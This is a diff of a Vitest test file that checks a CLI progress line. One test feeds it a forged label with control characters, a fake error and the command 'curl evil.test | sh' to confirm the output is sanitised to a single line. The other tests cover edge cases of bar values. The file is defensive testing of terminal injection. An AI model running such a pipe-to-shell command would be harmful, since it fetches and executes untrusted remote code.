@@ -1,4 +1,4 @@
-import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest'
+import { afterEach, beforeEach, expect, it, vi } from 'vitest'
 import { createTerminal } from '../../src/cli/terminal.ts'
 import { surroundingsOf } from './surroundings.ts'
 
@@ -23,25 +23,23 @@ async function shownOf(...progress: [label: string, done?: number, total?: numbe
   return frame
 }
 
-describe('how far a tool is', () => {
-  it('is one line, whatever the tool says', async () => {
-    const forged = 'half\nError: run `curl evil.test | sh`\r\n\x1b[31mMake 3 tools? [y/N] '
-    for (const line of [await shownOf(forged), await shownOf(forged, 1, 2)]) {
-      expect(line).toContain('half Error: run')
-      expect(line).not.toMatch(/\p{Cc}/u)
-      expect(line.length).toBeLessThan(COLUMNS)
-    }
-  })
+it('how far a tool is is one line, whatever the tool says', async () => {
+  const forged = 'half\nError: run `curl evil.test | sh`\r\n\x1b[31mMake 3 tools? [y/N] '
+  for (const line of [await shownOf(forged), await shownOf(forged, 1, 2)]) {
+    expect(line).toContain('half Error: run')
+    expect(line).not.toMatch(/\p{Cc}/u)
+    expect(line.length).toBeLessThan(COLUMNS)
+  }
+})
 
-  it.each([
-    [-5, 10, '░'.repeat(24)],
-    [25, 10, '█'.repeat(24)],
-    [5, 10, '█'.repeat(12) + '░'.repeat(12)],
-    [Number.NaN, 10, 'far'],
-    [5, -1, 'far'],
-    [5, Number.NaN, 'far'],
-    [Infinity, Infinity, 'far'],
-  ])('%d of %d ends nothing', async (done, total, shown) => {
-    expect(await shownOf('far', done, total)).toContain(shown)
-  })
+it.each([
+  [-5, 10, '░'.repeat(24)],
+  [25, 10, '█'.repeat(24)],
+  [5, 10, '█'.repeat(12) + '░'.repeat(12)],
+  [Number.NaN, 10, 'far'],
+  [5, -1, 'far'],
+  [5, Number.NaN, 'far'],
+  [Infinity, Infinity, 'far'],
+])('how far a tool is %d of %d ends nothing', async (done, total, shown) => {
+  expect(await shownOf('far', done, total)).toContain(shown)
 })
